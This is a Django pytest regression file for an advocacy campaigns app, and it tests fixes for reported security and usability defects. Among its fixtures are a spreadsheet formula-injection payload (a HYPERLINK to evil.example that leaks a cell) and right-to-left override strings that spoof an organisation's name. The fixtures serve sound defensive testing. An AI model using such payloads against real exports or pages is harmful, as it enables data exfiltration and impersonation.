"""Issue 10 in advocacy: each defect an attacker or a careless user found in campaigns, reproduced, and kept
closed. Numbers are the issue's: #1 formula injection in signatures.csv, #3 spoofed signatory names, #15 read-only
pages answering other methods, #16 a team page under /office/, #17 sequential ids and a 403 that shows a signature
exists, #19 a fingerprint method a third party could not follow, #21 "Sign" after the deadline; and from issue 9,
publishing that silently closes signing."""

import csv
import hashlib
import html as html_lib
import io
import json
import re
import sys
import unicodedata
from datetime import timedelta

import pytest
from django.utils import dateformat, timezone

from campaigns import services
from campaigns import urls as campaign_urls
from campaigns.models import Campaign, FollowUp, Signature, Statement
from members.models import Organisation
from tests.conftest import PASSWORD

SLUG = "deir-ez-zor-electricity-statement"
CAMPAIGN = "deir-ez-zor-electricity"
ASTEFIR = "astefir-al-zour"
PAGE = f"/en/statements/{SLUG}/"
SIGN = f"/en/statements/{SLUG}/sign/"
SPOOF = "\u202e" + "tnempoleveD rof noitazinagrO anrieD"  # displays as "Deirna Organization for Development"
SPOOF_AR = "\u202b" + "منظمة ديرنا"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def statement(demo):
    return Statement.objects.get(slug=SLUG)


def _listed_organisation(statement) -> Organisation:
    """An organisation named on the statement's public list."""
    signature = (
        statement.current_version()
        .signatures.filter(visibility="named", withdrawn_at__isnull=True, taken_down_at__isnull=True)
        .order_by("pk")
        .first()
    )
    return signature.organisation


def _astefir_signature(statement) -> Signature:
    return Signature.objects.get(organisation__slug=ASTEFIR, version=statement.current_version())


def _csv_cells(client) -> list[list[str]]:
    text = client.get(f"/en/statements/{SLUG}/signatures.csv").content.decode()
    return list(csv.reader(io.StringIO(text, newline="")))


# --- #1 formula injection in signatures.csv ----------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_signatures_csv_neutralises_cells_a_spreadsheet_would_run(client, statement, start):
    organisation = _listed_organisation(statement)
    payload = start + 'HYPERLINK("http://evil.example/?leak="&A3,"Click")'
    Organisation.objects.filter(pk=organisation.pk).update(name_en=payload, name_ar=start + "1+1")
    cells = [cell for row in _csv_cells(client) for cell in row]
    assert "'" + payload in cells and "'" + start + "1+1" in cells
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []


# --- #3 names that carry direction controls ----------------------------------------------------------------


def test_signatory_names_are_isolated_on_the_statement_and_print_pages(client, statement):
    organisation = _listed_organisation(statement)
    Organisation.objects.filter(pk=organisation.pk).update(name_en=SPOOF, name_ar=SPOOF_AR)
    assert f"<bdi>{SPOOF}</bdi>" in client.get(PAGE).content.decode()
    printed = client.get(f"/en/statements/{SLUG}/signed/").content.decode()
    assert f"<bdi>{SPOOF_AR}</bdi>" in printed and f"<bdi>{SPOOF}</bdi>" in printed


def test_an_organisation_s_own_signature_names_it_isolated(client, people, statement):
    Organisation.objects.filter(slug=ASTEFIR).update(name_en=SPOOF)
    client.force_login(people["astefir_delegate"])
    assert f"<bdi>{SPOOF}</bdi> signed this version." in client.get(PAGE).content.decode()
    client.force_login(people["tech_officer"])
    office = client.get(f"/en/office/advocacy/statements/{SLUG}/").content.decode()
    assert re.search(r"<bdi><span [^>]*>" + re.escape(SPOOF) + "</span></bdi>", office)


def test_downloads_give_signatory_names_as_stored(client, statement):
    """Refusing such names is the forms' work; the signed record shows what is stored, not a cleaned copy."""
    organisation = _listed_organisation(statement)
    Organisation.objects.filter(pk=organisation.pk).update(name_en=SPOOF, name_ar=SPOOF_AR)
    data = json.loads(client.get(f"/en/statements/{SLUG}/signatures.json").content)
    assert {"organisation": SPOOF, "organisation_ar": SPOOF_AR} in [
        {"organisation": s["organisation"], "organisation_ar": s["organisation_ar"]} for s in data["signatories"]
    ]
    assert [SPOOF, SPOOF_AR] in [row[:2] for row in _csv_cells(client)]


# --- #15 read-only pages answer only GET and HEAD ----------------------------------------------------------

READ_ONLY = [
    "/en/campaigns/",
    f"/en/campaigns/{CAMPAIGN}/",
    PAGE,
    f"/en/statements/{SLUG}/signatures.csv",
    f"/en/statements/{SLUG}/signatures.json",
    f"/en/statements/{SLUG}/signed/",
    "/en/rounds/deir-ez-zor-2023/",
]


@pytest.mark.parametrize("url", READ_ONLY)
@pytest.mark.parametrize("method", ["post", "put", "patch", "delete"])
def test_read_only_pages_refuse_other_methods(client, demo, url, method):
    assert getattr(client, method)(url).status_code == 405
    assert client.get(url).status_code == 200
    assert client.head(url).status_code == 200


def test_the_office_index_refuses_other_methods_and_still_hides_itself(client, people):
    client.force_login(people["tech_officer"])
    assert client.post("/en/office/advocacy/").status_code == 405
    assert client.get("/en/office/advocacy/").status_code == 200
    client.force_login(people["astefir_admin"])
    assert client.post("/en/office/advocacy/").status_code == 404


# --- #16 the campaign's team updates follow-ups under the campaign, not under /office/ --------------------


def _follow_up() -> FollowUp:
    return FollowUp.objects.filter(meeting__campaign__slug=CAMPAIGN).order_by("pk").first()


def test_every_office_address_is_the_technical_team_s():
    """Pages under /office/ are the technical team's (views_office, 404 to anyone else)."""
    assert [
        p.name
        for p in campaign_urls.urlpatterns
        if str(p.pattern).startswith("office/") and p.callback.__module__ != "campaigns.views_office"
    ] == []


def test_the_campaign_team_updates_a_follow_up_under_the_campaign(client, people):
    follow_up = _follow_up()
    client.force_login(people["astefir_admin"])  # Astefir Al-Zour takes part in the campaign
    page = client.get(f"/en/campaigns/{CAMPAIGN}/").content.decode()
    action = f"/en/campaigns/{CAMPAIGN}/follow-ups/{follow_up.code}/"
    assert f'action="{action}"' in page and "/office/advocacy/follow-ups/" not in page
    assert client.post(f"/en/office/advocacy/follow-ups/{follow_up.pk}/", {"status": "broken"}).status_code == 404
    assert client.post(action, {"status": "kept"}).status_code == 302
    follow_up.refresh_from_db()
    assert follow_up.status == "kept"


def test_outsiders_and_other_campaigns_do_not_find_a_follow_up(client, people):
    follow_up = _follow_up()
    Campaign.objects.get(slug=CAMPAIGN).organisations.set([Organisation.objects.get(slug=ASTEFIR)])
    client.force_login(people["deirna_admin"])  # Deirna's admin: not in the campaign any more
    assert (
        client.post(f"/en/campaigns/{CAMPAIGN}/follow-ups/{follow_up.code}/", {"status": "broken"}).status_code == 404
    )
    client.force_login(people["tech_officer"])  # the follow-up is not one of this other campaign's
    assert (
        client.post(f"/en/campaigns/raqqa-grants/follow-ups/{follow_up.code}/", {"status": "broken"}).status_code == 404
    )
    follow_up.refresh_from_db()
    assert follow_up.status == "open"


# --- #17 no sequential ids; who may not withdraw a signature does not learn it exists ----------------------


def test_no_campaigns_address_carries_a_sequential_id():
    assert [p.name for p in campaign_urls.urlpatterns if "<int:" in str(p.pattern)] == []


def test_withdrawal_is_addressed_by_a_code_nobody_can_guess(client, people, statement):
    signature = _astefir_signature(statement)
    client.force_login(people["astefir_delegate"])
    page = client.get(PAGE).content.decode()
    assert f"/signatures/{signature.code}/withdraw/" in page
    assert f"/signatures/{signature.pk}/withdraw/" not in page
    assert client.post(f"/en/statements/{SLUG}/signatures/{signature.pk}/withdraw/", {"reason": ""}).status_code == 404
    assert Signature.objects.filter(pk=signature.pk).exists()


@pytest.mark.parametrize(
    "who",
    [
        "astefir_editor",  # of the organisation that signed, without the signatory or admin role
        "deirna_admin",  # admin of another organisation
        "tech_officer",  # the technical team hides a name (takedown); withdrawing is the organisation's own act
    ],
)
def test_who_may_not_withdraw_a_signature_is_told_it_does_not_exist(client, people, statement, who):
    signature = _astefir_signature(statement)
    client.force_login(people[who])
    key = getattr(signature, "code", signature.pk)
    response = client.post(f"/en/statements/{SLUG}/signatures/{key}/withdraw/", {"reason": ""})
    assert response.status_code == 404
    assert Signature.objects.filter(pk=signature.pk, withdrawn_at__isnull=True).exists()


def test_takedown_is_addressed_by_the_code_too(client, people, statement):
    signature = _listed_organisation(statement).signatures.get(version=statement.current_version())
    client.force_login(people["tech_officer"])
    page = client.get(f"/en/office/advocacy/statements/{SLUG}/").content.decode()
    assert f"/office/advocacy/signatures/{signature.code}/takedown/" in page
    assert client.post(f"/en/office/advocacy/signatures/{signature.pk}/takedown/", {"reason": "x"}).status_code == 404
    signature.refresh_from_db()
    assert signature.taken_down_at is None


def test_every_signature_and_follow_up_has_its_own_code(demo):
    codes = [*Signature.objects.values_list("code", flat=True), *FollowUp.objects.values_list("code", flat=True)]
    assert len(codes) == len(set(codes)) > 2
    assert all(code.version == 4 for code in codes)


# --- #19 the fingerprint's method, on the page, in words a third party can follow --------------------------

# The steps as the statement page states them (in English); `third_party_fingerprint` is written from them alone.
STEPS = [
    "Take the four texts in this order: Arabic (ar), Kurmanji (ku), Syriac (syr), English (en). "
    "A language without a text counts as an empty text.",
    "Put each text in Unicode Normalization Form C (NFC).",
    "Replace each CR LF pair (U+000D U+000A) with LF (U+000A), then each remaining CR with LF.",
    "Remove whitespace from the start and the end of the whole text, then from the end of each line "
    "(lines are separated by LF).",
    "Write each language as a block: the line [code] (its code in square brackets, such as [ar]), LF, then the text.",
    "Join the four blocks with LF and add one LF at the end.",
    "Encode the result in UTF-8 and compute its SHA-256: the fingerprint is its 64 lowercase hexadecimal digits.",
]
WHITESPACE_WORDS = re.compile(r"Whitespace means these characters: ([^.]*)\.")
CODE_POINTS = re.compile(r"U\+([0-9A-F]{4,6})(?:–U\+([0-9A-F]{4,6}))?")


def _method_text(page: str) -> str:
    """The words of the page's section on the fingerprint, as a reader sees them."""
    section = re.search(r'<[a-z]+ [^>]*id="fingerprint-method".*?</(?:details|section)>', page, re.S)
    assert section, "the page explains how to check the fingerprint"
    return " ".join(html_lib.unescape(re.sub(r"<[^>]+>", " ", section.group(0))).split())


def _whitespace_from(words: str) -> str:
    listed = WHITESPACE_WORDS.search(words)
    assert listed, "the page says which characters are whitespace"
    chars = []
    for first, last in CODE_POINTS.findall(listed.group(1)):
        chars += [chr(c) for c in range(int(first, 16), int(last or first, 16) + 1)]
    return "".join(chars)


def third_party_fingerprint(texts: dict[str, str], whitespace: str) -> str:
    """What someone outside CivNet writes from the page's steps, with the texts of signatures.json."""
    blocks = []
    for code in ("ar", "ku", "syr", "en"):  # step 1
        text = unicodedata.normalize("NFC", texts.get(code) or "")  # step 2
        text = text.replace("\r\n", "\n").replace("\r", "\n")  # step 3
        text = text.strip(whitespace)  # step 4
        text = "\n".join(line.rstrip(whitespace) for line in text.split("\n"))
        blocks.append(f"[{code}]\n{text}")  # step 5
    canonical_text = "\n".join(blocks) + "\n"  # step 6
    return hashlib.sha256(canonical_text.encode("utf-8")).hexdigest()  # step 7


# Version 2 of the demo statement, typed as browsers send a textarea: CR LF line ends, spaces before the line
# ends, blank lines around, and letters with their marks typed apart (NFC joins them).
VERSION_2 = {
    "ar": "\r\n  نحن المنظمات الموقعة أدناه،  \r\nنطالب بخطة واضحة للكهرباء في دير الزور.\u00a0\r\n"
    "ا\u0653لية المتابعة\t\r\n\r\n",
    "ku": "Em, rêxistinên jêrîn, e\u0302lektrîkê dixwazin. \r\n",
    "syr": "\u3000ܚܢܢ ܬܘܕܝܬܐ ܕܕܝܪ ܙܘܪ  \r\nܟܗܪܒܐ ܠܟܠ\u2003\r",
    "en": "We, the undersigned organisations,   \r\ncall for a clear plan for electricity.\r\n\r\n",
}


def test_a_third_party_recomputes_every_fingerprint_from_the_page_s_words(client, people, statement):
    services.statement_draft(actor=people["tech_officer"], statement=statement, texts=VERSION_2)
    services.statement_freeze(actor=people["tech_officer"], statement=statement)
    page = client.get(PAGE).content.decode()
    words = _method_text(page)
    for step in STEPS:
        assert step in words
    whitespace = _whitespace_from(words)
    assert {" ", "\t", "\u00a0", "\u3000", "\n"} <= set(whitespace)
    data = json.loads(client.get(f"/en/statements/{SLUG}/signatures.json").content)
    assert data["version"] == 2 and data["fingerprint"] in page
    assert third_party_fingerprint(data["texts"], whitespace) == data["fingerprint"]
    versions = statement.versions.filter(frozen_at__isnull=False).order_by("number")
    assert [v.number for v in versions] == [1, 2]
    for version in versions:
        texts = {code: getattr(version, f"text_{code}") for code in ("ar", "ku", "syr", "en")}
        assert third_party_fingerprint(texts, whitespace) == version.fingerprint
    # Where it matters: the stored text keeps what was typed, the fingerprint does not depend on it.
    assert "\r\n" in data["texts"]["ar"] and "\r\n" in data["texts"]["syr"]
    assert (
        third_party_fingerprint({**data["texts"], "ar": data["texts"]["ar"].replace("\r\n", "\n")}, whitespace)
        == (data["fingerprint"])
    )


def test_the_print_page_gives_the_same_method(client, statement):
    words = _method_text(client.get(f"/en/statements/{SLUG}/signed/").content.decode())
    for step in STEPS:
        assert step in words
    assert _whitespace_from(words) == _whitespace_from(_method_text(client.get(PAGE).content.decode()))


def test_the_published_whitespace_is_what_fingerprints_were_always_taken_with(client, statement):
    """Fingerprints published before the method was written out removed Python's whitespace (str.isspace);
    the page's list is exactly that set, so none of them changes."""
    listed = _whitespace_from(_method_text(client.get(PAGE).content.decode()))
    python = "".join(chr(c) for c in range(sys.maxunicode + 1) if chr(c).isspace())
    assert listed == python


# --- #21 and issue 9: whether signing is open, until when, and what happens next ---------------------------


def _closed_by_deadline(statement):
    deadline = timezone.now() - timedelta(hours=1)
    Statement.objects.filter(pk=statement.pk).update(deadline=deadline)
    return deadline


def _shown(moment) -> str:
    return dateformat.format(timezone.localtime(moment), "j F Y, H:i")


def _sign_data(statement) -> dict:
    version = statement.current_version()
    organisation = Organisation.objects.get(slug=ASTEFIR)
    return {
        "organisation": organisation.pk,
        "visibility": "named",
        "password": PASSWORD,
        "version": version.pk,
        "fingerprint": version.fingerprint,
    }


def test_the_sign_link_is_hidden_after_the_deadline(client, people, statement):
    Signature.objects.filter(organisation__slug=ASTEFIR).delete()
    client.force_login(people["astefir_delegate"])
    assert f'href="{SIGN}"' in client.get(PAGE).content.decode()  # open: the signatory is offered to sign
    deadline = _closed_by_deadline(statement)
    page = client.get(PAGE).content.decode()
    assert f'href="{SIGN}"' not in page
    assert "Signing closed on" in page and _shown(deadline) in page


def test_the_sign_page_refuses_after_the_deadline(client, people, statement):
    Signature.objects.filter(organisation__slug=ASTEFIR).delete()
    deadline = _closed_by_deadline(statement)
    client.force_login(people["astefir_delegate"])
    page = client.get(SIGN).content.decode()
    assert "Signing closed on" in page and _shown(deadline) in page
    assert 'name="password"' not in page
    response = client.post(SIGN, _sign_data(statement))
    assert "The deadline for signing this statement has passed" in response.content.decode()
    assert not Signature.objects.filter(organisation__slug=ASTEFIR).exists()


def test_the_statement_page_says_until_when_signing_is_open_and_what_comes_next(client, people, statement):
    deadline = timezone.now() + timedelta(days=3)
    Statement.objects.filter(pk=statement.pk).update(deadline=deadline)
    page = client.get(PAGE).content.decode()
    offset = dateformat.format(timezone.localtime(deadline), "O")
    assert "Signing is open until" in page and f"{_shown(deadline)} UTC{offset}" in page
    assert "the technical team publishes the statement" in page  # what happens next
    Statement.objects.filter(pk=statement.pk).update(deadline=None)
    assert "Signing is open until the technical team publishes the statement" in client.get(PAGE).content.decode()
    services.statement_publish(actor=people["tech_officer"], statement=statement)
    statement.refresh_from_db()
    page = client.get(PAGE).content.decode()
    assert "Signing is closed" in page and _shown(statement.published_at) in page


def test_publishing_says_what_it_does_and_asks_for_confirmation(client, people, statement):
    client.force_login(people["tech_officer"])
    office = client.get(f"/en/office/advocacy/statements/{SLUG}/").content.decode()
    assert "Publishing closes signing" in office
    publish = f"/en/office/advocacy/statements/{SLUG}/publish/"
    response = client.post(publish, {}, follow=True)
    statement.refresh_from_db()
    assert statement.status == Statement.Status.OPEN
    assert "tick the box to confirm that publishing closes signing" in response.content.decode()
    client.post(publish, {"confirm": "on"})
    statement.refresh_from_db()
    assert statement.status == Statement.Status.PUBLISHED
